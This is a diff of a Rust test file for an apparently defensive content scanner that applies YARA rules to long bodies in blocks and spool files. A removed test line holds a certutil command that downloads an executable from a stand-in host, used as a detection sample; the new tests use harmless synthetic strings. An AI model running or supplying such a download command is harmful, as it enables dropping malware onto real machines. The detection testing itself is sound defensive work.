@@ -5,9 +5,9 @@
 use std::path::{Path, PathBuf};
 use std::sync::Arc;
 
-use sluice::budget::Budget;
+use sluice::budget::{Budget, Disk};
 use sluice::inspect::literal::PartFacts;
-use sluice::inspect::signatures::{SignatureScan, Signatures};
+use sluice::inspect::signatures::{Keeping, SignatureScan, Signatures};
 use sluice::inspect::yara::{Externals, YaraLimits};
 use sluice::inspect::{Direction, Findings, PartId};
 use sluice::rules::Bundle;
@@ -87,14 +87,30 @@ const FACTS: PartFacts<'static> = PartFacts {
 fn gated(rules: &Arc<Signatures>, pieces: &[&[u8]]) -> Vec<String> {
     let budget = Budget::new(1 << 30);
     let mut scan = SignatureScan::new(rules, &budget, &FACTS);
+    ids(&run(
+        &mut scan,
+        pieces.iter().copied(),
+        &Externals::default(),
+    ))
+}
+
+/// Pushes the pieces and does all the work that comes of them.
+fn run<'a>(
+    scan: &mut SignatureScan,
+    pieces: impl Iterator<Item = &'a [u8]>,
+    externals: &Externals,
+) -> Findings {
     let mut out = Findings::default();
     for piece in pieces {
         scan.push(piece, &mut out);
+        while let Some(work) = scan.take_work() {
+            work.run(externals, &mut out);
+        }
     }
     if let Some(work) = scan.finish(&mut out) {
-        work.run(&Externals::default(), &mut out);
+        work.run(externals, &mut out);
     }
-    ids(&out)
+    out
 }
 
 fn ungated(rules: &Arc<Signatures>, body: &[u8]) -> Vec<String> {
@@ -179,14 +195,8 @@ fn shipped_matches(rules: &Arc<Signatures>, content: &[u8]) -> Vec<String> {
             ..FACTS
         };
         let mut scan = SignatureScan::new(rules, &budget, &facts);
-        let mut out = Findings::default();
-        for window in content.chunks(16 * 1024) {
-            scan.push(window, &mut out);
-        }
-        if let Some(work) = scan.finish(&mut out) {
-            work.run(&Externals::default(), &mut out);
-        }
-        all.extend(ids(&out));
+        let found = run(&mut scan, content.chunks(16 * 1024), &Externals::default());
+        all.extend(ids(&found));
     }
     all.sort();
     all.dedup();
@@ -287,44 +297,174 @@ fn findings_do_not_depend_on_how_a_body_is_cut() {
     }
 }
 
+/// Rules that tell a block from the whole: by its size, its beginning, and by strings that lie far apart.
+const BLOCK_RULES: &str = r#"
+rule block_anywhere { strings: $a = "needle-anywhere" condition: $a }
+rule block_begin { strings: $a = "needle-anywhere" condition: uint32be(0) == 0x484f5553 and $a }
+rule block_size { strings: $a = "needle-anywhere" condition: $a and filesize > 3MB }
+rule block_far { strings: $a = "needle-anywhere" $b = "far-away-needle" condition: $a and $b }
+rule block_name { strings: $a = "needle-anywhere" condition: $a and filename == "a.bin" and direction == "response" }
+rule block_never { strings: $a = "needle-anywhere" $b = "not-in-any-body" condition: $a and $b }
+"#;
+
+const NEEDLE: &[u8] = b"needle-anywhere";
+
+/// A body of `length` bytes with the needle at `place` and its fellow at the end.
+fn long_body(length: usize, place: usize) -> Vec<u8> {
+    let mut body = vec![b'.'; length];
+    body[..4].copy_from_slice(b"HOUS");
+    body[place..place + NEEDLE.len()].copy_from_slice(NEEDLE);
+    let end = length - 20;
+    body[end..end + 15].copy_from_slice(b"far-away-needle");
+    body
+}
+
+/// Ids and anomalies of a body in pieces of `size` bytes.
+fn long_run(
+    rules: &Arc<Signatures>,
+    budget: &Budget,
+    keeping: Keeping,
+    (body, size): (&[u8], usize),
+) -> (Vec<String>, Vec<&'static str>) {
+    let mut scan = SignatureScan::new(rules, budget, &FACTS);
+    scan.keep_up_to(keeping);
+    let externals = Externals {
+        filename: "a.bin".into(),
+        direction: "response".into(),
+        ..Externals::default()
+    };
+    let out = run(&mut scan, body.chunks(size), &externals);
+    let anomalies = out.anomalies.iter().map(|at| at.anomaly.code()).collect();
+    (ids(&out), anomalies)
+}
+
+fn block_rules() -> Arc<Signatures> {
+    compiled(vec![rule_file("block.yar", BLOCK_RULES)])
+}
+
+fn rule_file(name: &str, text: &str) -> YaraFile {
+    YaraFile {
+        namespace: name.trim_end_matches(".yar").into(),
+        shown: name.into(),
+        text: text.into(),
+        mode: sluice::rules::Mode::Enforce,
+    }
+}
+
 #[test]
-fn a_body_over_the_limit_is_looked_at_in_blocks_and_that_is_recorded() {
-    let mut bundle = Bundle::embedded();
-    bundle.examples.clear();
-    let limits = YaraLimits {
-        whole_bytes: 1 << 20,
-        ..YaraLimits::default()
-    };
-    let rules = Arc::new(Signatures::compile(vec![bundle], limits).expect("compiles"));
+fn a_body_over_the_limits_is_looked_at_in_blocks_and_that_is_recorded() {
+    let rules = block_rules();
     let budget = Budget::new(1 << 30);
-    let needle = b"certutil -urlcache -split -f http://host.example/a.exe a.exe";
-    let run = |body: &[u8], size: usize| {
-        let mut scan = SignatureScan::new(&rules, &budget, &FACTS);
-        let mut out = Findings::default();
-        for window in body.chunks(size) {
-            scan.push(window, &mut out);
-        }
-        if let Some(work) = scan.finish(&mut out) {
-            work.run(&Externals::default(), &mut out);
-        }
-        let anomalies: Vec<_> = out.anomalies.iter().map(|at| at.anomaly.code()).collect();
-        (ids(&out), anomalies)
+    let keeping = Keeping {
+        memory_bytes: 1 << 20,
+        spool_bytes: 0,
     };
-    for place in [10, (1 << 20) - 20, (1 << 20) + 5, 3 << 20, (4 << 20) - 70] {
-        let mut body = vec![b'.'; 4 << 20];
-        body.splice(place..place + needle.len(), needle.iter().copied());
+    for place in [10, (1 << 20) - 20, (1 << 20) - 5, 3 << 20, (4 << 20) - 70] {
+        let body = long_body(4 << 20, place);
+        let mut wanted = vec!["block/block_anywhere", "block/block_name"];
+        if place < 1 << 20 {
+            // The first block begins as the body does; the needle that crosses its end is in the next one only.
+            match place + NEEDLE.len() <= 1 << 20 {
+                true => wanted.push("block/block_begin"),
+                false => {}
+            }
+        }
+        if place >= 3 << 20 {
+            wanted.push("block/block_far");
+        }
+        wanted.sort_unstable();
         for size in [1000, 16 * 1024, 5 << 20] {
-            let (found, anomalies) = run(&body, size);
-            assert_eq!(
-                found,
-                ["dropper/system-tool-download"],
-                "at {place}, pieces of {size}"
-            );
+            let (found, anomalies) = long_run(&rules, &budget, keeping, (&body, size));
+            assert_eq!(found, wanted, "at {place}, pieces of {size}");
             assert_eq!(anomalies, ["windowed"]);
         }
     }
-    assert_eq!(run(&vec![b'.'; 1 << 20], 4096).1, Vec::<&str>::new());
+    let whole = vec![b'.'; 1 << 20];
+    let (_, anomalies) = long_run(&rules, &budget, keeping, (&whole, 4096));
+    assert_eq!(anomalies, Vec::<&str>::new());
     assert_eq!(budget.used(), 0, "what was reserved was given back");
+}
+
+#[test]
+fn a_long_body_is_scanned_whole_from_its_spool_file() {
+    let rules = block_rules();
+    let folder = tempfile::tempdir().expect("a folder");
+    let disk = Disk {
+        directory: folder.path().to_owned(),
+        bytes: Budget::new(64 << 20),
+    };
+    let budget = Budget::with_disk(1 << 30, disk.clone());
+    let keeping = Keeping {
+        memory_bytes: 2 << 20,
+        spool_bytes: 8 << 20,
+    };
+    let all = [
+        "block/block_anywhere",
+        "block/block_begin",
+        "block/block_far",
+        "block/block_name",
+        "block/block_size",
+    ];
+    for (length, place) in [
+        (4 << 20, 3 << 20),
+        (8 << 20, (1 << 20) - 7),
+        ((6 << 20) + 1, 5 << 20),
+    ] {
+        let body = long_body(length, place);
+        for size in [999, 16 * 1024, 3 << 20, 9 << 20] {
+            let (found, anomalies) = long_run(&rules, &budget, keeping, (&body, size));
+            assert_eq!(
+                found, all,
+                "{length} bytes, needle at {place}, pieces of {size}"
+            );
+            assert_eq!(anomalies, Vec::<&str>::new());
+        }
+    }
+    // Too long for the spool, with blocks due in memory, in the file and after it.
+    for place in [100, 3 << 20, (8 << 20) - 3, 9 << 20] {
+        let body = long_body((10 << 20) + 77, place);
+        let mut wanted = None;
+        for size in [4096, 16 * 1024, 11 << 20] {
+            let (found, anomalies) = long_run(&rules, &budget, keeping, (&body, size));
+            assert_eq!(anomalies, ["windowed"]);
+            assert!(
+                found.contains(&"block/block_anywhere".to_owned()),
+                "at {place}"
+            );
+            assert_eq!(
+                *wanted.get_or_insert(found.clone()),
+                found,
+                "pieces of {size}"
+            );
+        }
+    }
+    assert_eq!((budget.used(), disk.bytes.used()), (0, 0));
+    let left = std::fs::read_dir(folder.path()).expect("a folder").count();
+    assert_eq!(left, 0, "the files have no names");
+}
+
+#[test]
+fn a_full_spool_means_blocks_and_a_broken_one_is_never_silent() {
+    let rules = block_rules();
+    let keeping = Keeping {
+        memory_bytes: 1 << 20,
+        spool_bytes: 64 << 20,
+    };
+    let body = long_body(5 << 20, 3 << 20);
+    let run = |directory: &Path, bytes: u64| {
+        let disk = Disk {
+            directory: directory.to_owned(),
+            bytes: Budget::new(bytes),
+        };
+        let budget = Budget::with_disk(1 << 30, disk);
+        long_run(&rules, &budget, keeping, (&body, 16 * 1024))
+    };
+    let folder = tempfile::tempdir().expect("a folder");
+    let (found, anomalies) = run(folder.path(), 3 << 20);
+    assert_eq!(found, ["block/block_anywhere", "block/block_name"]);
+    assert_eq!(anomalies, ["windowed", "spool-failure"]);
+    let (_, anomalies) = run(&folder.path().join("absent"), 64 << 20);
+    assert_eq!(anomalies, ["spool-failure"]);
 }
 
 #[cfg(feature = "libyara")]
